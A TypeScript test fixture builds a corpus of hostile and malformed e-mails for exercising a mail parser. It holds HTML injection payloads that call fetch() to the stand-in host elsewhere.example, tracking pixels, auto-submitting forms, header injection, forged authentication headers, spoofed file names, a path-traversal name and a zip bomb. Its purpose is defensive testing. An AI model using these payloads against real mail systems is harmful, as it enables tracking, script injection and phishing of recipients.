import { gzipSync } from 'node:zlib'

/** The target of malicious links. */
export const ELSEWHERE = 'elsewhere.example'
const SITE = `https://${ELSEWHERE}`

const lines = (...parts: (string | readonly string[])[]): string => parts.flat().join('\r\n')
const HEAD = ['From: Mallory <mallory@hostile.example>', 'To: you@company.example', 'MIME-Version: 1.0']
const plain = (...body: string[]): string =>
  lines(HEAD, 'Subject: plain', 'Content-Type: text/plain; charset=utf-8', '', body)
const html = (body: string): string =>
  lines(HEAD, 'Subject: html', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', body)
const mixed = (...parts: string[]): string =>
  lines(
    HEAD,
    'Subject: mixed',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    parts.map((one) => `--b\r\n${one}`),
    '--b--',
    '',
  )
const part = (head: string[], body: string): string => lines(head, '', body)
const TEXT = part(['Content-Type: text/plain'], 'Hello')
const file = (type: string, name: string, content: Buffer | string): string =>
  part(
    [
      `Content-Type: ${type}`,
      'Content-Transfer-Encoding: base64',
      `Content-Disposition: attachment; filename="${name}"`,
    ],
    Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\r\n'),
  )
const nested = (depth: number): string => {
  const open = Array.from({ length: depth }, (_, at) =>
    lines(`Content-Type: multipart/mixed; boundary="b${at}"`, '', `--b${at}`),
  )
  return lines(HEAD, 'Subject: nested', open, 'Content-Type: text/plain', '', 'deep')
}
const forwarded = (depth: number): string =>
  depth === 0
    ? lines(HEAD, 'Subject: innermost', '', 'Hello')
    : lines(HEAD, `Subject: forwarded ${depth}`, 'Content-Type: message/rfc822', '', forwarded(depth - 1))

/** Markup that would execute, fetch or send something. */
const MARKUP: Record<string, string> = {
  'a script': `<script>fetch('${SITE}/script')</script><p>text</p>`,
  'a script from elsewhere': `<script src="${SITE}/a.js"></script><p>text</p>`,
  'a picture': `<p>text</p><img src="${SITE}/pixel.gif" width=1 height=1>`,
  'a picture over a connection that others read': `<p>text</p><img src="http://${ELSEWHERE}/plain.gif">`,
  'a picture in a link': `<a href="${SITE}/offer"><img src="${SITE}/button.png" alt="Offer" style="background:url(${SITE}/under.png)"></a>`,
  'a picture without a protocol': `<p>text</p><img src="//${ELSEWHERE}/pixel.gif">`,
  'a picture with candidates': `<p>text</p><img srcset="${SITE}/a.png 1x, ${SITE}/b.png 2x"><picture><source srcset="${SITE}/c.png"><img></picture>`,
  'a picture that fails': `<img src=x onerror="parent.location='${SITE}/error'">text`,
  'an image': `<image src="${SITE}/image.png">text`,
  'an input that is a picture': `<input type=image src="${SITE}/input.png">text`,
  'a style that fetches': `<style>@import url(${SITE}/a.css); body{background:url(${SITE}/b.png)}</style><p>text</p>`,
  'a style attribute that fetches': `<p style="background:url(${SITE}/a.png)">text</p>`,
  'an escaped style that fetches': `<p style="background:\\75\\72\\6c(${SITE}/a.png)">text</p>`,
  'a style that covers the page': '<p style="position:fixed;inset:0;z-index:99999;background:red">text</p>',
  'a font from elsewhere': `<style>@font-face{font-family:x;src:url(${SITE}/f.woff2)} p{font-family:x}</style><p>text</p>`,
  'links of the head': `<link rel=stylesheet href="${SITE}/a.css"><link rel=preconnect href="${SITE}"><link rel=prefetch href="${SITE}/p"><p>text</p>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${SITE}/refresh"><p>text</p>`,
  'a base': `<base href="${SITE}/"><img src="pixel.gif"><a href="x">text</a>`,
  'a form that sends itself': `<form id=f action="${SITE}/form"><input name=a><button autofocus onfocus="f.submit()">text</button></form>`,
  'a form over a button': `<form action="${SITE}/form"></form><button form=f formaction="${SITE}/b">text</button>`,
  'a frame': `<iframe src="${SITE}/frame"></iframe><p>text</p>`,
  'a frame with markup': `<iframe srcdoc="<script>top.location='${SITE}'</script>"></iframe><p>text</p>`,
  'frames of the old kind': `<frameset><frame src="${SITE}/a"></frameset>text`,
  'an object': `<object data="${SITE}/o"></object><embed src="${SITE}/e"><applet code="${SITE}/a"></applet>text`,
  'a vector picture that runs': `<svg onload="fetch('${SITE}/svg')"><image href="${SITE}/i.png"/><use href="${SITE}/u.svg#a"/></svg>text`,
  formulas: `<math><mtext><table><mglyph><style><img src=x onerror="fetch('${SITE}')"></style></mglyph></table></mtext></math>text`,
  'a film and a sound': `<video poster="${SITE}/p.png" src="${SITE}/v.mp4" autoplay></video><audio src="${SITE}/a.mp3" autoplay></audio>text`,
  'a background of a table': `<body background="${SITE}/bg.png"><table background="${SITE}/t.png"><tr><td background="${SITE}/c.png">text</td></tr></table>`,
  'links that run': `<a href="javascript:fetch('${SITE}')">one</a><a href="jav&#x09;ascript:alert(1)">two</a><a href="data:text/html,<script>alert(1)</script>">three</a><a href="vbscript:x">four</a>`,
  'a link that tells where it was pressed': `<a href="https://company.example" ping="${SITE}/ping">text</a>`,
  'a dialog': '<script>alert(1)</script><body onload="confirm(2)" onpageshow="prompt(3)">text',
  'a comment that ends elsewhere': `<!--[if mso]><img src="${SITE}/mso.png"><![endif]--><!--><img src="${SITE}/c.png">-->text`,
  'a text that is read twice': `<noscript><p title="</noscript><img src=${SITE}/n.png>"></noscript>text`,
  'a template': `<template><img src="${SITE}/t.png"></template><textarea></textarea><img src="${SITE}/x.png"></textarea>text`,
  'names that shadow the document’s':
    '<a id=location name=body></a><form name=getElementById></form><p id=cookie>text</p>',
  'markup that never ends': `<div><table><tr><td><p title="text ${'<b>'.repeat(200)}`,
  'ten thousand elements in one another': `${'<div>'.repeat(10_000)}text`,
  'a megabyte of markup': `<p>text</p>${'<span style="color: red">word</span> '.repeat(30_000)}`,
  'markup that is slow to read': `<p>text</p>${'<'.repeat(50_000)}${'<a '.repeat(20_000)}`,
}

/** Malicious, broken or unusual messages. */
const BUILT: Record<string, string | Buffer> = {
  'nothing at all': '',
  'a head only': lines(HEAD, 'Subject: head only'),
  'an empty body': plain(''),
  'a body without a head': '\r\n\r\nHello',
  'lines that end as elsewhere': plain('Hello').replaceAll('\r\n', '\n'),
  'lines that end in carriage returns': plain('Hello').replaceAll('\r\n', '\r'),
  'no sender': lines('To: you@company.example', 'Subject: nobody', '', 'Hello'),
  'many senders': lines(
    ...Array.from({ length: 50 }, (_, at) => `From: a${at}@hostile.example`),
    'Subject: many',
    '',
    'Hello',
  ),
  'ten thousand recipients': lines(
    HEAD,
    `Cc: ${Array.from({ length: 10_000 }, (_, at) => `a${at}@hostile.example`).join(',\r\n ')}`,
    'Subject: crowd',
    '',
    'Hello',
  ),
  'groups in one another': lines(
    HEAD,
    `Cc: ${'a:'.repeat(5000)}b@hostile.example${';'.repeat(5000)}`,
    'Subject: groups',
    '',
    'Hello',
  ),
  'comments in one another': lines(
    `From: ${'('.repeat(5000)}x${')'.repeat(5000)} a@hostile.example`,
    'Subject: comments',
    '',
    'Hello',
  ),
  'a quoted address': lines('From: "a@company.example>, <x"@hostile.example', 'Subject: quoted', '', 'Hello'),
  'a name with the end of a line': lines(
    'From: =?utf-8?B?QQ0KQmNjOiBhbGxAY29tcGFueS5leGFtcGxl?= <a@hostile.example>',
    'Subject: =?utf-8?B?QQ0KQmNjOiBhbGxAY29tcGFueS5leGFtcGxl?=',
    '',
    'Hello',
  ),
  'a name that turns round': lines(
    'From: =?utf-8?Q?=E2=80=AEgro.ymapmoc?= <a@hostile.example>',
    'Subject: =?utf-8?Q?cv=E2=80=AEfdp.exe?=',
    '',
    'Hello',
  ),
  'a name that is markup': lines(
    'From: "<img src=x onerror=alert(1)>" <a@hostile.example>',
    'Subject: <script>alert(1)</script>',
    '',
    '<b>Hello</b>',
  ),
  'eight-bit headers': Buffer.concat([
    Buffer.from('From: '),
    Buffer.from([0xe9, 0xff, 0xfe, 0x80]),
    Buffer.from(' <a@hostile.example>\r\nSubject: caf'),
    Buffer.from([0xe9, 0x00, 0x01]),
    Buffer.from('\r\n\r\nHello'),
  ]),
  'a header of a megabyte': lines(HEAD, `Subject: ${'a'.repeat(1_000_000)}`, '', 'Hello'),
  'fifty thousand headers': lines(
    HEAD,
    Array.from({ length: 50_000 }, (_, at) => `X-${at}: a`),
    'Subject: heads',
    '',
    'Hello',
  ),
  'forged verdicts': lines(
    HEAD,
    'X-SES-Spam-Verdict: PASS',
    'X-SES-Virus-Verdict: PASS',
    'Authentication-Results: amazonses.com; spf=pass; dkim=pass; dmarc=pass header.from=bank.example',
    'Received-SPF: pass',
    'Subject: forged',
    '',
    'Hello',
  ),
  'a Message-ID with the end of a line': lines(
    HEAD,
    'Message-ID: <a@b>\r\n Bcc: all@company.example',
    'References: <<<>>> <a b> <\u0000>',
    'Subject: ids',
    '',
    'Hello',
  ),
  'ten thousand references': lines(
    HEAD,
    `References: ${Array.from({ length: 10_000 }, (_, at) => `<${at}@hostile.example>`).join('\r\n ')}`,
    'Subject: references',
    '',
    'Hello',
  ),
  'a date that is none': lines(HEAD, 'Date: the day after tomorrow', 'Subject: date', '', 'Hello'),
  'a date far away': lines(HEAD, 'Date: Fri, 31 Dec 275760 23:59:59 +0000', 'Subject: far', '', 'Hello'),
  'parts forty deep': nested(40),
  'parts five thousand deep': nested(5000),
  'mails in mails': forwarded(40),
  'no boundary': lines(
    HEAD,
    'Subject: none',
    'Content-Type: multipart/mixed',
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    'Hello',
    '--b--',
  ),
  'a boundary that never comes': lines(
    HEAD,
    'Subject: never',
    'Content-Type: multipart/mixed; boundary=zz',
    '',
    'Hello',
  ),
  'a boundary that never ends': mixed(TEXT).replace('--b--', ''),
  'a boundary of special characters': lines(
    HEAD,
    'Subject: special',
    'Content-Type: multipart/mixed; boundary="(.*)+$[\\"',
    '',
    '--(.*)+$[\\"',
    '',
    'Hello',
  ),
  'ten thousand parts': mixed(...Array.from({ length: 10_000 }, () => TEXT)),
  'an unknown charset': lines(
    HEAD,
    'Subject: =?klingon?B?SGVsbG8=?=',
    'Content-Type: text/plain; charset=klingon',
    '',
    'Hello',
  ),
  'a wrong charset': Buffer.concat([
    Buffer.from(lines(HEAD, 'Subject: wrong', 'Content-Type: text/plain; charset=utf-8', '', '')),
    Buffer.from([0xc3, 0x28, 0xf0, 0x28, 0x8c, 0x28, 0xed, 0xa0, 0x80]),
  ]),
  'UTF-16 that says it is UTF-7': lines(
    HEAD,
    'Subject: seven',
    'Content-Type: text/html; charset=utf-7',
    '',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ),
  'base64 that is none': lines(
    HEAD,
    'Subject: broken',
    'Content-Type: text/plain',
    'Content-Transfer-Encoding: base64',
    '',
    '!!!! not base64 ####',
  ),
  'quoted-printable that is none': lines(
    HEAD,
    'Subject: broken',
    'Content-Type: text/plain',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    '=ZZ=3=\r\n==',
  ),
  'an unknown encoding': lines(
    HEAD,
    'Subject: unknown',
    'Content-Type: text/plain',
    'Content-Transfer-Encoding: x-uuencode',
    '',
    'begin 644 a',
  ),
  'a line of two megabytes': plain('a'.repeat(2_000_000)),
  'nulls and controls': plain('a\u0000b\u0007c\u001b[31md'),
  'half characters': lines(
    HEAD,
    'Subject: half',
    'Content-Type: text/plain; charset=utf-16le',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from([0x00, 0xd8, 0x41, 0x00]).toString('base64'),
  ),
  'a calendar with markup': mixed(
    TEXT,
    part(
      ['Content-Type: text/calendar; method=REQUEST; charset=utf-8'],
      lines(
        'BEGIN:VCALENDAR',
        'BEGIN:VEVENT',
        `DESCRIPTION:<img src=${SITE}/ics.png onerror=alert(1)>`,
        `ATTACH:${SITE}/a`,
        'END:VEVENT',
        'END:VCALENDAR',
      ),
    ),
  ),
  'an archive that grows': mixed(TEXT, file('application/zip', 'bomb.zip', gzipSync(Buffer.alloc(20_000_000)))),
  'a program': mixed(TEXT, file('application/x-msdownload', 'invoice.pdf.exe', 'MZ\u0090')),
  'a page as a file': mixed(TEXT, file('text/html', 'page.html', `<script>fetch('${SITE}')</script>`)),
  'a vector picture as a file': mixed(TEXT, file('image/svg+xml', 'a.svg', `<svg onload="fetch('${SITE}')"/>`)),
  'a file whose name is a path': mixed(TEXT, file('text/plain', '../../../etc/passwd\\..\\x', 'Hello')),
  'a file whose name never ends': mixed(TEXT, file('text/plain', 'a'.repeat(10_000), 'Hello')),
  'a file of nothing': mixed(TEXT, file('application/pdf', 'empty.pdf', '')),
  'a hundred files': mixed(TEXT, ...Array.from({ length: 100 }, (_, at) => file('text/plain', `${at}.txt`, 'Hello'))),
  'an encrypted mail': lines(
    HEAD,
    'Subject: encrypted',
    'Content-Type: application/pkcs7-mime; name=smime.p7m',
    'Content-Transfer-Encoding: base64',
    '',
    'MIIB',
  ),
  'a message in parts': lines(
    HEAD,
    'Subject: parts',
    'Content-Type: message/partial; number=1; total=3; id="a@b"',
    '',
    'Hello',
  ),
  'a body elsewhere': lines(
    HEAD,
    'Subject: external',
    `Content-Type: message/external-body; access-type=URL; URL="${SITE}/body"`,
    '',
    'Content-Type: text/plain',
    '',
  ),
  winmail: mixed(TEXT, file('application/ms-tnef', 'winmail.dat', Buffer.from([0x78, 0x9f, 0x3e, 0x22]))),
}

/** Malicious and broken e-mails. */
export const HOSTILE: readonly (readonly [name: string, raw: Buffer])[] = [
  ...Object.entries(BUILT).map(([name, raw]) => [name, Buffer.from(raw)] as const),
  ...Object.entries(MARKUP).map(([name, body]) => [name, Buffer.from(html(body))] as const),
]
